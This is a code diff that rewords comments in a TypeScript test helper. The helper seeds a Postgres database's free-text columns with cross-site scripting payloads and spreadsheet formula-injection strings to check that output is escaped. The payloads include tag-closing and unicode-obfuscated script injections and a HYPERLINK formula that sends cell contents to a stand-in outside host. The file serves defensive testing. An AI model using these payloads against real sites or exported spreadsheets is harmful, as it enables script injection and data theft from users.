@@ -1,11 +1,11 @@
 import type pg from 'pg';
 
-// What people might type into a text so that it becomes markup or script, wherever it is shown.
+// Texts that would become markup or script if output unescaped.
 
-/** An element or attribute of it that came to life is found by this attribute; a script of it that ran called `__ran`. */
+/** Marks injected elements and attributes; injected scripts call `__ran`. */
 export const markOfMarkup = 'data-ran';
 
-/** Each ends what it may stand in, or is read by something else than HTML. At most 100 characters. */
+/** Each closes its likely context, or targets something other than HTML. At most 100 characters. */
 export const markup: readonly string[] = [
   `"'></textarea></style></title></template></script><img data-ran src=//away.invalid/a onerror=__ran()>`,
   '<svg data-ran onload=__ran()><script data-ran>__ran()</script><animate data-ran onbegin=__ran()>',
@@ -20,15 +20,14 @@ export const markup: readonly string[] = [
   ']]><x data-ran/>&lt;img data-ran src=x onerror=__ran()&gt;&#60;img data-ran&#62;\\u003cimg data-ran\\u003e',
   '\u202e\u2028＜img data-ran onerror=__ran()＞<scr\u200bipt data-ran>__ran()</script>\u00a0',
 ];
-/** The same for a text that takes no more. */
 export const shortMarkup = '"><b data-ran onclick=__ran()>';
 
-/** What a spreadsheet runs where a cell begins with it. */
+/** Cell beginnings that spreadsheets evaluate. */
 export const formulas: readonly string[] = [
   ...['=HYPERLINK("//away.invalid/"&A1)', '+1+1', '-1+1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '"=1"&"'],
 ];
 
-// Columns that are no words: what the program makes, reads as something else, or finds records by.
+// Columns without free text: generated, parsed, or used as keys.
 const noWords: Readonly<Record<string, readonly string[] | 'all'>> = {
   ...{ idempotency_keys: 'all', rate_limits: 'all', staff_sessions: 'all', card_events: 'all', password_links: 'all' },
   ...{ card_checkouts: 'all', sandbox_checkouts: 'all', sandbox_refunds: 'all', restaurant_logos: 'all' },
@@ -48,10 +47,7 @@ const noWords: Readonly<Record<string, readonly string[] | 'all'>> = {
   printers: ['host'],
 };
 
-/**
- * Puts markup at the end of every text of a database that people may write, and one of `before` at its beginning; the columns
- * that took it.
- */
+/** Appends markup to every free text in a database and prefixes one of `before`; returns the columns that took it. */
 export async function writeMarkup(client: pg.ClientBase, before: readonly string[] = ['']): Promise<string[]> {
   const { rows } = await client.query<{ table: string; column: string }>(
     `select table_name as table, column_name as column from information_schema.columns
@@ -70,7 +66,7 @@ export async function writeMarkup(client: pg.ClientBase, before: readonly string
   return written;
 }
 
-/** In how many rows a column took it: all of it where there is room, else another piece in each row. */
+/** Returns how many rows took it: the whole text if it fits, else a different piece in each row. */
 async function writeIn(
   client: pg.ClientBase,
   table: string,
